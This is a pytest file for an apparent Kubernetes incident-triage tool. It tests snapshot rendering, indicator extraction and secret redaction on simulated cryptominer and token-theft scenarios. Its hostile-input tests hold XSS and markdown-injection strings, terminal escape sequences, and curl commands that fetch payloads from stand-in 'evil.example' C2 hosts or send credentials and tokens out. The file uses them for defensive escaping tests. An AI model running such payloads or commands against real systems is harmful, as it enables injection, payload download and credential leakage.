"""A snapshot worth pasting: initial access, indicators, the key raw events that tell
the story, the responders' workflow, plain-text friendly escaping and a text form.

Played on the demo scenarios (the sim writes the audit, Falco and Tetragon files)
and on hostile records."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from markdown_check import assert_inert

from ktriage.core import indicators
from ktriage.core.correlate import Correlator
from ktriage.core.model import EntityKind, Event, Incident, Severity, entity
from ktriage.core.replay import Replayer
from ktriage.core.snapshot import (
    MAX_APPENDIX,
    key_events,
    render_markdown,
    render_text,
    write_snapshot,
)
from ktriage.core.workflow import FALSE_POSITIVE, INVESTIGATING, WorkflowStore
from ktriage.sim.audit import AuditWriter
from ktriage.sim.clock import ManualClock
from ktriage.sim.outputs import SimOutputs
from ktriage.sim.scenario.format import load_scenario
from ktriage.sim.scenario.player import ScenarioPlayer
from ktriage.sim.storage.store import ClusterStore

START = 1_800_000_000.0
Played = tuple[Correlator, Replayer]


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Played]:
    """A scenario played by the sim to its end, replayed with its raw records kept."""
    cache: dict[str, Played] = {}

    def get(name: str) -> Played:
        if name not in cache:
            clock = ManualClock(start=START)
            outputs = SimOutputs(tmp_path_factory.mktemp(name))
            player = ScenarioPlayer(
                load_scenario(name),
                store=ClusterStore(clock),
                audit=AuditWriter(outputs, clock),
                outputs=outputs,
                clock=clock,
            )
            player.play_all()
            outputs.close()
            correlator = Correlator()
            replayer = Replayer(correlator)
            replayer.replay([outputs.audit_path, outputs.falco_path, outputs.tetragon_path])
            cache[name] = (correlator, replayer)
        return cache[name]

    return get


def _worst(c: Correlator) -> Incident:
    return c.sorted_incidents()[0]


def _section(md: str, title: str) -> str:
    return md.split(f"\n## {title}\n", 1)[1].split("\n## ", 1)[0]


# ---- the cryptominer demo --------------------------------------------------------------


def test_cryptominer_indicators_name_the_payload_host_the_pool_and_the_dropped_file(
    played: Callable[[str], Played],
) -> None:
    c, r = played("cryptominer")
    inc = _worst(c)
    assert inc.title.startswith("Miner")
    found = indicators.extract(c.events_of(inc.id), r.archive.record)
    values = {(i.kind, i.value) for i in found.items}
    assert (indicators.URL, "http://198.51.100.7/xmrig") in values
    assert (indicators.IP, "198.51.100.7") in values  # the payload host
    assert (indicators.URL, "stratum+tcp://pool.minexmr.com:4444") in values
    assert (indicators.DOMAIN, "pool.minexmr.com") in values
    assert (indicators.FILE, "/tmp/xmrig") in values
    assert (indicators.IP, "203.0.113.50") in values
    assert (indicators.IDENTITY, "ci-deploy") in values
    assert (indicators.IMAGE, "ghcr.io/acme/storefront:2.4.1") in values
    # No system binary or rule text becomes an indicator.
    assert not any(v in ("/bin/sh", "/usr/bin/curl", "cryptoioc.ch") for _k, v in values)
    (pool,) = [i for i in found.items if i.value == "pool.minexmr.com"]
    assert {p.source for p in pool.places} >= {"tetragon", "falco"}
    assert pool.first.time == min(
        e.time for e in c.events_of(inc.id) if "pool.minexmr.com" in e.summary
    )


def test_cryptominer_snapshot_tells_how_it_started(played: Callable[[str], Played]) -> None:
    c, r = played("cryptominer")
    inc = _worst(c)
    md = render_markdown(inc, c.events_of(inc.id), r.archive.record)
    access = _section(md, "Initial access")
    assert "| Actor | ci-deploy |" in access
    assert "| Source IP | 203.0.113.50 |" in access
    assert "| User agent | kubectl/v1.37.1 (linux/amd64) kubernetes/5b7e0f3 |" in access
    assert "audit: ci-deploy exec into shop/storefront-7b6b5d8bc4-287pg: sh" in access
    found = _section(md, "Indicators")
    for value in ("`http://198.51.100.7/xmrig`", "pool.minexmr.com", "/tmp/xmrig"):
        assert f"| {value} |" in found
    # The exec that started it, by ci-deploy from 203.0.113.50, with its raw record.
    appendix = _section(md, "Appendix: key raw events")
    execs = appendix.split("### ")[1:]
    audit_execs = [h for h in execs if h.split("\n", 1)[0].endswith("audit exec")]
    assert audit_execs, "no audit exec in the key raw events"
    assert '"username": "ci-deploy"' in audit_execs[0]
    assert '"203.0.113.50"' in audit_execs[0]
    # One of each kind of step; the repeated miner starts are counted, not all written.
    assert "more signals left out" in appendix
    assert_inert(md)


def test_key_events_hold_the_first_signal_of_each_source(played: Callable[[str], Played]) -> None:
    c, r = played("cryptominer")
    inc = _worst(c)
    events = c.events_of(inc.id)
    picked, left = key_events(inc, events, r.archive.record)
    signals = [e for e in events if e.signal]
    for source in {e.source for e in signals}:
        first = next(e for e in signals if e.source == source)
        assert first in picked, source
    assert picked == sorted(picked, key=lambda e: e.time)
    assert left == sum(1 for e in signals if e not in picked)
    assert len(picked) <= MAX_APPENDIX


def test_token_theft_key_events_hold_every_identity_change(
    played: Callable[[str], Played],
) -> None:
    c, r = played("token-theft")
    inc = next(i for i in c.sorted_incidents() if "token-request" in _kinds(c, i))
    picked, _left = key_events(inc, c.events_of(inc.id), r.archive.record)
    changes = [
        e
        for e in c.events_of(inc.id)
        if e.signal and e.kind in ("token-request", "rbac-binding", "system-credential-outside")
    ]
    assert changes
    assert all(e in picked for e in changes)
    md = render_markdown(inc, c.events_of(inc.id), r.archive.record)
    assert "/var/run/secrets/kubernetes.io/serviceaccount/token" in _section(md, "Indicators")


def _kinds(c: Correlator, inc: Incident) -> set[str]:
    return {e.kind for e in c.events_of(inc.id)}


def test_the_text_form_has_no_markdown_syntax(played: Callable[[str], Played]) -> None:
    c, r = played("cryptominer")
    inc = _worst(c)
    text = render_text(inc, c.events_of(inc.id), r.archive.record)
    assert text.startswith(f"{inc.id}: Miner")
    for syntax in ("**", "```", "|---", "\n## ", "\n### ", "`http"):
        assert syntax not in text, syntax
    assert "Source IP:    203.0.113.50" in text
    assert "http://198.51.100.7/xmrig" in text and "pool.minexmr.com" in text
    assert "\x1b" not in text


def test_text_snapshot_file_is_private_and_named_txt(
    played: Callable[[str], Played], tmp_path: Path
) -> None:
    c, r = played("cryptominer")
    inc = _worst(c)
    path = write_snapshot(tmp_path, inc, c.events_of(inc.id), r.archive.record, fmt="text")
    assert path.name == f"{inc.id}.txt" and path.stat().st_mode & 0o777 == 0o600
    with pytest.raises(ValueError, match="unknown snapshot format"):
        write_snapshot(tmp_path, inc, c.events_of(inc.id), fmt="html")


# ---- the workflow and the blast radius -------------------------------------------------


def test_workflow_section_and_timeline_hold_the_responders_changes(tmp_path: Path) -> None:
    inc, events = _incident([_falco(100, "Shell in shop/web-1")])
    store = WorkflowStore(tmp_path, clock=iter([150.0, 160.0, 170.0, 180.0]).__next__)
    store.acknowledge("", inc.id, actor="alice")
    store.set_status("", inc.id, INVESTIGATING, actor="alice")
    store.add_note("", inc.id, "token came from the CI runner; see <b>ticket</b> `42`", actor="bob")
    store.set_status("", inc.id, FALSE_POSITIVE, reason="backup job", actor="bob")
    work = store.load("", inc.id)
    md = render_markdown(inc, events, work=work)
    section = _section(md, "Workflow")
    assert "| Status | false-positive (backup job) |" in section
    assert "| Acknowledged | by alice |" in section
    # Ends with a backtick: a longer delimiter, padded, so the span holds it.
    note = "`` token came from the CI runner; see <b>ticket</b> `42` ``"
    assert f"- 1970-01-01T00:02:50.000000Z bob: {note}" in section
    timeline = _section(md, "Timeline")
    rows = [line for line in timeline.splitlines() if "| responder |" in line]
    assert len(rows) == 4 and "status → false-positive (backup job)" in rows[-1]
    # In time order with the cluster's events.
    times = [line.split(" | ")[0].lstrip("| ") for line in timeline.splitlines()[2:] if line]
    assert times == sorted(times)
    assert "| Status | false-positive (backup job), acknowledged by alice |" in md
    assert_inert(md)


def test_blast_radius_section_says_when_it_was_not_computed() -> None:
    inc, events = _incident([_falco(100, "Shell")])
    md = render_markdown(inc, events)
    assert "Not computed for this snapshot" in _section(md, "Blast radius")


# ---- hostile input ---------------------------------------------------------------------

HOSTILE_NAMES = [
    "](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "line one\n## Injected\n| a | b |",
    "``` fence ```` and ` tick",
    "`",
    " leading and trailing ` ",
    "[bold red]markup[/] *em* _u_ ~~s~~ $x$ &amp; &lt;",
    "\x1b]52;c;aGk=\x07\x1b[2J\u202eevil",
    "http://evil.example/x www.evil.example",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_names_and_commands_cannot_break_out(name: str) -> None:
    pod = entity(EntityKind.POD, "shop", name)
    ev = _falco(100, f"Shell in {name}", pod=pod, cmdline=f"sh -c '{name}'")
    inc, events = _incident([ev])
    md = render_markdown(inc, events)
    assert_inert(md)
    assert not any(line.startswith("## Injected") for line in md.splitlines())
    text = render_text(inc, events)
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert not any(line.startswith("## Injected") for line in text.splitlines())


JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2EifQ.c2lnbmF0dXJlLXZhbHVl"


def test_hostile_secrets_are_redacted_in_every_section() -> None:
    """A token in the summary, the command, a URL's password, the user agent, the
    request URI, the user name and a note: in no section, in no format."""
    audit_raw = {
        "kind": "Event",
        "user": {"username": f"token={JWT}"},
        "sourceIPs": ["203.0.113.9"],
        "userAgent": f"curl/8 Authorization: Bearer {JWT}",
        "requestURI": (
            "/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command="
            f"curl+http%3A%2F%2Fadmin%3Ahunter2pass%40198.51.100.9%2Fx%3Ftoken%3D{JWT}"
        ),
    }
    audit = Event(
        time=90,
        source="audit",
        ref="a1",
        kind="exec",
        severity=Severity.HIGH,
        summary=f"exec with Bearer {JWT}",
        entities=(entity(EntityKind.POD, "shop", "web-1"),),
        signal=True,
        label="Exec",
        raw_inline=audit_raw,
    )
    falco = _falco(
        100, f"Shell token={JWT}", cmdline=f"curl -u admin:hunter2pass http://198.51.100.9/?t={JWT}"
    )
    inc, events = _incident([audit, falco])
    store_work = _work_with_note(f"the token was {JWT} and password=hunter2pass")
    for render in (render_markdown, render_text):
        out = render(inc, events, work=store_work)
        assert JWT not in out and "eyJzdWIiOiJzeXN0ZW06c2EifQ" not in out
        assert "hunter2pass" not in out
        assert "198.51.100.9" in out  # the host stays an indicator
    found = indicators.extract(events)
    assert all(JWT not in i.value and "hunter2pass" not in i.value for i in found.items)


def _work_with_note(text: str) -> object:
    from ktriage.core.workflow import NOTE, Change, IncidentWork

    work = IncidentWork("x")
    work.apply(Change(120.0, "alice", NOTE, text))
    return work


def test_hostile_ten_thousand_indicators_are_capped() -> None:
    events = [
        _falco(
            100 + i,
            "Outbound",
            ref=f"f{i}",
            cmdline=f"curl http://c2-{i}.evil.example/p{i} -o /tmp/drop{i}",
            ip=f"198.51.{i // 256 % 256}.{i % 256}",
        )
        for i in range(10_000)
    ]
    inc, events = _incident(events)
    started = time.perf_counter()
    found = indicators.extract(events)
    assert time.perf_counter() - started < 20
    assert len(found.items) == indicators.MAX_SHOWN
    # URLs, domains, files and IPs: about four per event, and a few shared ones.
    assert found.left_out >= 39_000 - indicators.MAX_SHOWN - found.untracked
    assert found.untracked > 0  # beyond MAX_TRACKED distinct values: counted only
    md = render_markdown(inc, events)
    section = _section(md, "Indicators")
    assert re.search(r"… \d+ more indicators left out\.", section)
    assert section.count("\n| ") <= indicators.MAX_SHOWN + 4 * len(indicators.KINDS)
    picked, left = key_events(inc, events)
    assert len(picked) <= MAX_APPENDIX and left == 10_000 - len(picked)


# ---- helpers ---------------------------------------------------------------------------


def _falco(
    t: float,
    summary: str,
    *,
    ref: str = "",
    pod: object = None,
    cmdline: str = "sh",
    ip: str = "",
) -> Event:
    pod_ref = pod or entity(EntityKind.POD, "shop", "web-1")
    fields: dict[str, object] = {
        "proc.cmdline": cmdline,
        "container.image.repository": "ghcr.io/acme/web",
        "container.image.tag": "1.0",
    }
    ents = [pod_ref]
    if ip:
        fields["fd.rip"] = ip
    return Event(
        time=t,
        source="falco",
        ref=ref or f"f{t}",
        kind="shell",
        severity=Severity.HIGH,
        summary=summary,
        entities=tuple(ents),  # type: ignore[arg-type]
        signal=True,
        label="Shell",
        raw_inline={"output_fields": fields, "rule": "Terminal shell"},
    )


def _incident(events: list[Event]) -> tuple[Incident, list[Event]]:
    c = Correlator()
    for ev in events:
        c.add(ev)
    inc = c.sorted_incidents()[0]
    return inc, c.events_of(inc.id)
